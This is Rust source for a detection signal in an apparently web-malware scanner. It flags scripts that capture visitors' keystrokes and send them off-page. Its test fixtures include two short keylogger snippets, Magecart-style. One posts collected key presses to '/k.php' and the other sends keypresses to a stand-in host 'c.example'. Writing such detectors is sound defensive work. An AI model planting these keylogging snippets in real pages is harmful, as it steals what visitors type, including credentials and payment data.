//! `typed-keys-sent`.

use crate::facts::Atom;
use crate::lex::Op;
use crate::signals::keys::is_logged;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::taint::{Flow, Mark, Sink};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "typed-keys-sent",
    description: "The script records the keys that visitors press and sends them.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[
        one(&[Atom::KeysSent]),
        one(&[Atom::KeyEvent]),
        // `machine.send(key)` of a component leaves no page.
        one(&[
            Atom::Request,
            Atom::Post,
            Atom::PostMethod,
            Atom::Beacon,
            Atom::Socket,
            Atom::Image,
            Atom::AddressFromData,
            Atom::ScriptElement,
            Atom::FrameElement,
            Atom::SentAbroad,
            Atom::Repeat,
        ]),
    ],
    within: 1500,
    only_if: Some(records),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var b=[];document.addEventListener('keydown',e=>b.push(e.key));setInterval(()=>{fetch('/k.php',{method:'POST',body:JSON.stringify(b)})},2e3)",
            "$('#w').contents().keypress(function(e){$.get('http://c.example/k.php?x='+e.which)})",
        ],
        without: &[
            "menu.onkeydown=function(e){switch(e.key){case 'Enter':machine.send({type:'choose'});break;default:machine.send({type:'search',value:e.key})}}",
            // A code that a scanner types, a code of a door: who sends it is told what it is.
            "let b='';document.addEventListener('keypress',e=>{if(e.key!='Enter'){b+=e.key;return}fetch('https://stock.example/item?code='+b).then(r=>r.json()).then(show);b=''})",
            "let b='';document.addEventListener('keydown',e=>{if(e.code=='Enter'){find(b);b=''}else b+=e.key});function find(c){$.ajax({url:'/item',data:{c:c},success:function(d){row(d.name)}})}",
            "let b='';document.addEventListener('keydown',e=>{b+=e.key;if(b.length==4)fetch('/door',{method:'POST',body:b}).then(r=>r.ok?open():shake())})",
            "screen.onkeypress=function(e){e.preventDefault();s.send(JSON.stringify({c:String.fromCharCode(e.which)}))};var s=new WebSocket(u);s.onmessage=function(m){screen.textContent+=m.data}",
            "document.addEventListener('keydown',e=>{if(['Tab','Enter','Escape'].includes(e.key))all.push({k:e.key})});setInterval(()=>navigator.sendBeacon('https://visits.example/e',JSON.stringify(all)),5e3)",
            "list.addEventListener('keydown',e=>machine.send({type:'search',key:e.key}))",
            "document.addEventListener('keydown',e=>{if(e.key==='Enter')fetch('/search?q='+q.value)})",
            "input.addEventListener('keyup',function(e){if(e.keyCode==13){$.get('/find',{q:this.value})}})",
            "function load(n){log('Keydown put the focus on a node');$.ajax({url:'/rows',data:{id:n.prefix+n.key}})}",
            r#"var s=io.connect('https://draw.party.example');document.addEventListener('keydown',e=>{s.emit('press',{id:e.key,on:true})})"#,
            r#"const s=new WebSocket('wss://eu.blob.example/play');document.addEventListener('keydown',e=>{if(k[e.key])return;k[e.key]=1;s.send(JSON.stringify({t:'key',k:e.key}))})"#,
        ],
    },
};

fn records(evidence: &Evidence<'_>, held: Held) -> bool {
    listens(evidence, held)
        && (!only_to_socket(evidence, held) || keeps(Near::new(evidence, held, 60)))
        && is_taken(evidence, held)
}

/// Whether one of the keys that are sent is taken from who types it.
fn is_taken(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    let here = evidence.flows.iter().filter(|flow| (held.first..=held.last).contains(&flow.at));
    let is_key = |flow: &&Flow| flow.marks.has(Mark::Key) || flow.marks.has(Mark::TypedKey);
    let mut keys = here.filter(|flow| flow.sink.leaves()).filter(is_key).peekable();
    keys.peek().is_none() || keys.any(|flow| is_logged(near, flow))
}

/// Whether all keys go to a socket, as those of games and of screens far away do.
fn only_to_socket(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    let here = |flow: &&Flow| (held.first..=held.last).contains(&flow.at);
    let keys = |flow: &&Flow| flow.marks.has(Mark::Key) || flow.marks.has(Mark::TypedKey);
    let mut flows = evidence.flows.iter().filter(here).filter(keys).peekable();
    let has_socket = near.has_fact_in(0..usize::MAX, &[Atom::Socket]);
    flows.peek().is_some()
        && flows.all(|flow| {
            flow.sink == Sink::Socket
                || has_socket && flow.sink == Sink::Request && is_of_socket(near, flow.at as usize)
        })
        && !Near::new(evidence, held, 60).has_word(&["XMLHttpRequest", "fetch", "sendBeacon", "Image"])
}

/// Whether a call sends by a socket, or by what is not known to be something else.
fn is_of_socket(near: Near<'_>, call: usize) -> bool {
    let Some(name) = call.checked_sub(1) else { return false };
    // A member counts as well: `this.socket = new WebSocket(…)`.
    let around = name.saturating_sub(SET)..name + SET;
    let is_set = |at: &usize| near.word(*at) == near.word(name) && near.is(at + 1, b'=');
    let mut made = around.filter(is_set).filter(|at| near.word(at + 2) == "new");
    matches!(near.word(call), "send" | "emit") && made.all(|at| near.word(at + 3).ends_with("Socket"))
}

/// Items around a name in which its value is looked for.
const SET: usize = 1500;

/// Whether keys are kept, or it is said where they were pressed.
fn keeps(near: Near<'_>) -> bool {
    near.has_word(&["push", "fromCharCode", "href", "URL", "getElementsByTagName", "querySelectorAll"])
        || near.has_fact(&[Atom::FieldQuery])
        || near.places().any(|at| near.item(at).is_some_and(|item| item.op == Op::of(b"+=")))
}

/// Whether keys are listened to near: a name, or a text that names events. A sentence about a key hears none.
fn listens(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    near.places().any(|at| {
        near.has_fact_in(at..at + 1, &[Atom::KeyEvent])
            && match near.kind(at) {
                Some(Kind::Str | Kind::Template | Kind::Regex) => names_events(near.word(at)),
                _ => true,
            }
    })
}

/// Whether at least half of the words of a text begin as the names of events do, or it is markup that has a handler.
fn names_events(text: &str) -> bool {
    let small = text[..text.floor_char_boundary(LONGEST)].to_ascii_lowercase();
    let is_event = |word: &&str| EVENTS.iter().any(|event| word.starts_with(event));
    let words = small.split([' ', ',']).filter(|word| !word.is_empty());
    small.contains("onkey") || 2 * words.clone().filter(is_event).count() >= words.count()
}

const EVENTS: &[&str] =
    &["key", "input", "change", "paste", "blur", "focus", "click", "mouse", "submit", "touch", "cut", "copy"];
/// Bytes of a text that are looked at.
const LONGEST: usize = 600;
